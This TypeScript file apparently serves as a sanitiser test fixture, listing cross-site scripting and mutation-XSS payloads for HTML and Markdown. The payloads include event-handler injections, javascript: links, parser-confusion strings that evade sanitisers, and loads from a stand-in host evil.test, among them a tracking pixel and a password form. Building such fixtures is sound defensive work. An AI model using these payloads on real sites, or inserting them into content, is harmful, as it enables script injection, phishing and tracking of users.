/** Ways to have something run, load or look like what it is not, that are known for sanitisers and Markdown. */
export const SCRIPTS: Record<string, string> = {
  script: "<script>alert(1)</script>",
  scriptInline: "text <script src=https://evil.test/x.js></script> more",
  scriptSplit: "<scr<script>ipt>alert(1)</scr</script>ipt>",
  scriptUnclosed: "<script>alert(1)",
  image: "<img src=x onerror=alert(1)>",
  imageSlash: "<img/src='x'/onerror=alert(1)//>",
  imageSet: '<img srcset="https://evil.test/a.png 1x" src="https://evil.test/b.png">',
  svg: "<svg onload=alert(1)><circle r=9 /></svg>",
  svgScript: "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  svgUse: '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x" /></svg>',
  svgStyle: "<svg><style>@import 'https://evil.test/x.css';</style></svg>",
  svgAnimate:
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>x</text></a></svg>',
  foreign: "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  linkScript: "[x](javascript:alert(1))",
  linkScriptCase:
    "[x](JaVaScRiPt:alert(1)) [y](vbscript:msgbox(1)) [z](data:text/html,<script>alert(1)</script>)",
  linkEntities: "[x](&#106;avascript&#58;alert(1)) [y](java&Tab;script:alert(1))",
  linkControl: "[x](\u0001javascript:alert(1)) <a href='java\nscript:alert(1)'>y</a>",
  linkAngle: "<javascript:alert(1)> [x](<javascript:alert(1)>)",
  linkReference: "[x][1]\n\n[1]: javascript:alert(1) 'title'",
  linkTitle: '[x](https://ok.test "\\" onmouseover=alert(1) \\"")',
  linkQuote: '[x](https://ok.test/"onclick=alert(1)//)',
  imageAlt: '![" onerror="alert(1)](x)',
  imageRemote: "![a picture](https://evil.test/pixel.png?who=me)",
  imageRelative: "![a](//evil.test/pixel.png) ![b](/parlance/v1/accounts.sign_out)",
  imageSvgData: "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  iframe: "<iframe src=https://evil.test></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  object:
    "<object data=https://evil.test/x.swf></object><embed src=https://evil.test><applet code=x></applet>",
  media:
    "<video src=https://evil.test/v.mp4 onerror=alert(1)></video><audio src=https://evil.test/a.mp3></audio>",
  form: "<form action=https://evil.test><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>ok</button></form>",
  style:
    "<style>body{display:none}</style><p style='position:fixed;inset:0;background:url(https://evil.test)'>x</p>",
  head: "<base href=https://evil.test><meta http-equiv=refresh content='0;url=https://evil.test'><link rel=stylesheet href=https://evil.test/x.css><title>x</title>",
  names:
    "<a id=session name=location>x</a><form id=document><img name=getElementById></form><p id=main class='skip'>y</p>",
  body: "<body onload=alert(1)><html onmouseover=alert(1)><frameset onload=alert(1)>",
  dialog:
    "<dialog open>x</dialog><marquee onstart=alert(1)>y</marquee><details open ontoggle=alert(1)><summary>z</summary></details>",
  popover: "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=alert(1)>z</div>",
  template:
    "<template><img src=x onerror=alert(1)></template><slot name=x></slot><x-y is=z onclick=alert(1)>w</x-y>",
  comment: "<!-- --!><img src=x onerror=alert(1)> --> <!--><img src=x onerror=alert(1)>",
  cdata: "<![CDATA[<img src=x onerror=alert(1)>]]> <?xml version='1.0'?><?php echo 1 ?>",
  codeEscape:
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```\n\n`</code><img src=x onerror=alert(1)>`",
  codeInfo: '```"><img src=x onerror=alert(1)>\nx\n```\n\n- ```js"onclick=alert(1)\n  x\n  ```',
  attributes:
    "<p onclick=alert(1) data-does=copy data-from=javascript:alert(1) aria-label=x tabindex=1 contenteditable>x</p>",
  forged:
    '<button data-does="picture" data-from="javascript:alert(1)">x</button><code class="maths evil">x</code>',
  nullByte: "<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(1)>",
  autolink: 'https://evil.test/<script>alert(1)</script> www.evil.test"onclick="alert(1)',
};

/** Markup that reads otherwise the second time: what a sanitiser let through, and a browser made alive again. */
export const MUTATING: Record<string, string> = {
  mathStyle:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  svgStyleTitle: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  formMath: "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  noscriptStyle: "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
  annotation:
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  select: '<select><template><style><!--</select><a rel="--></style></template><img src onerror=alert(1)>">',
  textarea: "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
  xmp: "<xmp><p title='</xmp><img src=x onerror=alert(1)>'><plaintext><p>x",
  tableNest: "<table><tr><td><table><svg><desc><table><style><a title='</style><img src onerror=alert(1)>'>",
  isindex: "<p><svg><title><p><style></title><img src=x onerror=alert(1)></style>",
  deep: "<div>".repeat(600) + "<svg><style><img src=x onerror=alert(1)></style></svg>",
  backtick: "<img alt=`` onerror=alert(1) src=x><a href=`javascript:alert(1)`>x</a>",
  emphasised: "*<img src=x title='*' onerror=alert(1)>* **<a href='javascript:alert(1)**'>x</a>**",
  linkInLink:
    "[<a href='javascript:alert(1)'>x</a>](https://ok.test) [![x](javascript:alert(1))](javascript:alert(2))",
};
